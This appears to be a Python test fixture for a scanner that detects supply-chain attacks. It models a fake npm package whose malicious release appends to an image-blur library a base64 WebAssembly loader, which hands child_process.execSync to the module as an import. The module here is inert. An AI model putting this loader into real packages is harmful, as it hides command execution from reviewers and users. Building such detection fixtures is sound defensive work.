"""WebAssembly out of a text: a program that no reviewer of JavaScript can read.

As miners did from 2018 on, and loaders of 2024 and 2025: the module is in base64 or in numbers, is
made by hand with `new WebAssembly.Module`, and gets the machine's functions as its imports. Here
the module is eight bytes of header and a section of zeros.

Post-mortem: "Ecriminals increasingly use WebAssembly to hide malware" (CrowdStrike, 2021).
In the staged tarball: a long encoded text whose first bytes say WebAssembly, made into a module
that may run programs.
"""

import base64

from tests.findings.attack import Attack, release

_SOURCE = (
    "exports.blur = (pixels) => pixels.map((one, i) => (one + (pixels[i + 1] ?? one)) >> 1);\n"
)
_NEXT = _SOURCE.replace("?? one", "?? pixels[i]")
# A custom section without a name is all that it has.
_MODULE = b"\0asm\x01\0\0\0" + b"\0\x81\x10\0" + bytes(2_048)
_ENCODED = base64.b64encode(_MODULE).decode()
_LOADER = f"""
const bytes = Buffer.from('{_ENCODED}', 'base64');
const code = new WebAssembly.Module(bytes);<<<web-assembly-programs>>>
const made = new WebAssembly.Instance(code, {{
  env: {{ run: (at, n) => require('child_process').execSync(text(at, n)), now: Date.now }},
}});
function text(at, n) {{
  return Buffer.from(made.exports.memory.buffer, at, n).toString();
}}
if (made.exports.main) made.exports.main();
"""

ATTACK = Attack(
    before=release("soft-pixels", "1.0.0", {"index.js": _SOURCE}),
    unharmed=release("soft-pixels", "1.0.1", {"index.js": _NEXT}),
    after={"base64": release("soft-pixels", "1.0.1", {"index.js": _NEXT + _LOADER})},
)
